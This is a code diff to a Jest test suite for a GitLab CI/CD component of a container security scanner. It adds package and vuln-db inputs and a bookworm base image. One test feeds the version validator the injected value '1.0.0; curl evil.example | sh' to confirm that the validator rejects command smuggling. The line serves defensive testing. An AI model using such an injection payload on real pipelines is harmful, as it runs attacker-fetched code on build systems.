@@ -58,6 +58,7 @@ describe('GitLab CI/CD component (templates/containersec.yml)', () => {
       'comment',
       'node-image',
       'version',
+      'package',
       'token-variable',
     ]);
     for (const [name, input] of Object.entries(inputs)) {
@@ -74,9 +75,13 @@ describe('GitLab CI/CD component (templates/containersec.yml)', () => {
     expect(inputs['fail-on-error']).toMatchObject({ type: 'boolean', default: true });
     expect(inputs.comment!.options).toEqual(['update', 'new', 'off']);
     expect(inputs.version!.default).toBe(pkg.version);
+    expect(inputs.package!.default).toBe('');
+    // As the action: empty means the policy's vulnerabilities.source decides (issue #15).
+    expect(inputs['vuln-db']!.default).toBe('');
     expect(inputs['token-variable']!.default).toBe('CONTAINERSEC_GITLAB_TOKEN');
-    // Pinned by digest, or the clearly named placeholder until a verified digest is filled in.
-    expect(inputs['node-image']!.default).toMatch(/^node:24-slim@sha256:[0-9a-f]{64}$/);
+    // Pinned by digest, and an image that ships git (node:<v>-bookworm is built on buildpack-deps:bookworm, whose
+    // scm layer installs git), so the job installs nothing per run (issue #15). The slim and alpine variants lack it.
+    expect(inputs['node-image']!.default).toMatch(/^node:24-bookworm@sha256:[0-9a-f]{64}$/);
   });
 
   it('references only declared inputs, and uses every one of them', () => {
@@ -98,7 +103,7 @@ describe('GitLab CI/CD component (templates/containersec.yml)', () => {
         'job-name': 'security-gate',
         stage: 'verify',
         images: ['$CI_REGISTRY_IMAGE:$CI_COMMIT_SHA', 'registry.example.com/base:1'],
-        'node-image': `node:24-slim@sha256:${'a'.repeat(64)}`,
+        'node-image': `node:24-bookworm@sha256:${'a'.repeat(64)}`,
         'fail-on-error': false,
       }),
     ) as Record<string, Job>;
@@ -107,7 +112,7 @@ describe('GitLab CI/CD component (templates/containersec.yml)', () => {
       expect(rendered).not.toHaveProperty(global);
     const job = rendered['security-gate']!;
     expect(job.stage).toBe('verify');
-    expect(job.image).toBe(`node:24-slim@sha256:${'a'.repeat(64)}`);
+    expect(job.image).toBe(`node:24-bookworm@sha256:${'a'.repeat(64)}`);
     expect(job.allow_failure).toBeUndefined();
     expect(JSON.parse(job.variables.CONTAINERSEC_IMAGES!)).toEqual([
       '$CI_REGISTRY_IMAGE:$CI_COMMIT_SHA',
@@ -116,7 +121,9 @@ describe('GitLab CI/CD component (templates/containersec.yml)', () => {
     for (const value of Object.values(job.variables)) expect(typeof value).toBe('string');
     expect(job.script.every((line) => typeof line === 'string')).toBe(true);
     const run = job.script.find((line) => line.startsWith('npx '))!;
-    expect(run).toMatch(/^npx --yes containersec@0\.1\.0 check \. /);
+    expect(run).toMatch(
+      /^npx --yes --package "\$\{CONTAINERSEC_PACKAGE:-containersec@\$CONTAINERSEC_VERSION\}" -- containersec check \. /,
+    );
     expect(job.artifacts.when).toBe('always');
     expect(job.artifacts.reports).toEqual({
       container_scanning: 'gl-container-scanning-report.json',
@@ -157,7 +164,8 @@ describe('GitLab CI/CD component (templates/containersec.yml)', () => {
       return result.stdout.trimEnd().split('\n');
     };
     const plain = run({});
-    expect(plain.slice(0, 4)).toEqual(['--yes', 'containersec@0.1.0', 'check', '.']);
+    expect(plain.slice(0, 7)).toEqual(['--yes', '--package', 'containersec@0.1.0', '--', 'containersec', 'check', '.']);
+    expect(plain).not.toContain('--vuln-db');
     expect(plain).toContain('--image-list');
     expect(plain[plain.indexOf('--image-list') + 1]).toBe('[]');
     expect(plain[plain.indexOf('--comment') + 1]).toBe('update');
@@ -170,6 +178,30 @@ describe('GitLab CI/CD component (templates/containersec.yml)', () => {
     expect(custom[custom.indexOf('--on-error') + 1]).toBe('warn');
     expect(custom[custom.indexOf('--comment') + 1]).toBe('off');
     expect(JSON.parse(custom[custom.indexOf('--image-list') + 1]!)).toEqual(['a:1']);
+
+    const tarball = 'https://github.com/containersec/containersec/releases/download/v0.2.0/containersec-0.2.0.tgz';
+    const fromUrl = run({ package: tarball, 'vuln-db': 'osv-download', version: '0.2.0' });
+    expect(fromUrl.slice(0, 3)).toEqual(['--yes', '--package', tarball]);
+    expect(fromUrl[fromUrl.indexOf('--vuln-db') + 1]).toBe('osv-download');
+    expect(run({ version: '1.2.3' })[2]).toBe('containersec@1.2.3');
+  });
+
+  it('pastes no input into script text: inputs reach the shell as quoted variables (gitlab-ci/script-injection)', () => {
+    const job = source.slice(source.indexOf('\n---\n') + 5);
+    const scriptText = job.slice(job.indexOf('  before_script:'), job.indexOf('  artifacts:'));
+    expect(scriptText).not.toMatch(/\$\[\[/);
+    const version = componentInputs(source).version!;
+    expect(version.regex).toBeDefined();
+    const semver = new RegExp(version.regex!);
+    expect(semver.test('0.1.0') && semver.test('1.0.0-rc.1')).toBe(true);
+    expect(semver.test('1.0.0; curl evil.example | sh')).toBe(false);
+  });
+
+  it('installs git only when the image lacks it, never on every run', () => {
+    const job = (parse(render(defaults())) as Record<string, Job>)['containersec']!;
+    const setup = job.before_script.join('\n');
+    expect(setup).toMatch(/if ! command -v git/);
+    expect(setup.indexOf('command -v git')).toBeLessThan(setup.indexOf('apt-get'));
   });
 
   it('the README inputs table is generated from the spec', () => {
